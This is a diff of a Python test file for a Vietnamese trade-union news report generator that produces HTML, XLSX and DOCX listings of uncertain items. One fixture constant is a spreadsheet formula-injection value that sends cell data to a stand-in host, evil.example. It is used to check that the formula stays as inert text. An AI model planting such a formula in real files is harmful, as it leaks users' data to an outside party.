@@ -11,6 +11,7 @@ from docx.enum.section import WD_ORIENT
 from helpers.reports_fixture import BYLINE_FLAG, DATE_FLAG, UNSURE, WORDS_FLAG, make_month
 
 from reports.docx_report import UNSURE_ROWS
+from reports.reasons import group_digits
 from reports.render import write_month
 from reports.xlsx import UNSURE_SHEET
 
@@ -18,6 +19,7 @@ HEADING = "Mục cần kiểm tra lại (công cụ chưa chắc chắn)"
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"<b>bấm</b>")'
 CONTROL = "=1+1 Hội nghị\x01 người lao động\x0b"  # control characters XML cannot hold
 REASON_HEADER = "Lý do công cụ chưa chắc chắn"
+WORDS_SHOWN = group_digits(WORDS_FLAG)  # "… sát ngưỡng 1.000 chữ …": counts carry separators
 ADDED = {"/chua-chac-0", "/chua-chac-1"}
 
 
@@ -70,7 +72,7 @@ def test_html_lists_unsure_items_with_their_reasons(written):
     assert cells["Ngày đăng"] == "02/05/2025"
     assert cells["Nguồn"] == "Website" and cells["Loại"] == "Tin"
     assert cells["Đơn vị"] == "LĐLĐ huyện Kỳ Anh"
-    assert BYLINE_FLAG in cells[REASON_HEADER] and WORDS_FLAG in cells[REASON_HEADER]
+    assert BYLINE_FLAG in cells[REASON_HEADER] and WORDS_SHOWN in cells[REASON_HEADER]
     link = tin2.cssselect("td.title a")[0]
     assert link.get("href") == "https://congdoanhatinh.vn/tin-2" and link.text == "Tin /tin-2"
     assert DATE_FLAG in rows["/tin-10"].text_content()
@@ -107,7 +109,7 @@ def test_xlsx_sheet_lists_unsure_items_and_keeps_a_hostile_title_text(written):
     tin2 = rows["/tin-2"]
     assert tin2[0].value.strftime("%d/%m/%Y") == "02/05/2025" and tin2[0].number_format == "dd/mm/yyyy"
     assert [c.value for c in tin2[1:5]] == ["Tin /tin-2", "Website", "Tin", "LĐLĐ huyện Kỳ Anh"]
-    assert BYLINE_FLAG in tin2[5].value and WORDS_FLAG in tin2[5].value
+    assert BYLINE_FLAG in tin2[5].value and WORDS_SHOWN in tin2[5].value
     assert DATE_FLAG in rows["/tin-10"][5].value
     hostile = rows["/chua-chac-0"][1]
     assert hostile.value == HOSTILE
@@ -138,7 +140,7 @@ def test_docx_appendix_lists_unsure_items(written):
     assert set(rows) == {"Tin /tin-2", "Tin /tin-10", HOSTILE, "=1+1 Hội nghị người lao động"}
     assert rows["Tin /tin-2"][1] == "02/05/2025"
     assert rows["Tin /tin-2"][3:6] == ["Website", "Tin", "LĐLĐ huyện Kỳ Anh"]
-    assert BYLINE_FLAG in rows["Tin /tin-2"][6] and WORDS_FLAG in rows["Tin /tin-2"][6]
+    assert BYLINE_FLAG in rows["Tin /tin-2"][6] and WORDS_SHOWN in rows["Tin /tin-2"][6]
     assert DATE_FLAG in rows["Tin /tin-10"][6]
     assert "mục khác" not in text  # short enough to list whole
 
@@ -154,6 +156,6 @@ def test_docx_caps_a_long_list_and_points_to_the_workbook(tmp_path):
     rest = UNSURE_ROWS + 3 + len(UNSURE) - UNSURE_ROWS
     assert f"… và {rest} mục khác — xem trang «{UNSURE_SHEET}» của tệp XLSX cùng tên." in [
         p.text for p in d.paragraphs]  # fmt: skip
-    d, table = _appendix(april)  # nothing unsure in April: no appendix, one portrait section
-    assert table is None and len(d.sections) == 1
-    assert "PHỤ LỤC" not in "\n".join(p.text for p in d.paragraphs)
+    d, table = _appendix(april)  # nothing unsure in April: the annex says so, with no table
+    assert table is None and len(d.sections) == 2
+    assert "Không có tin, bài nào cần kiểm tra lại." in [p.text for p in d.paragraphs]
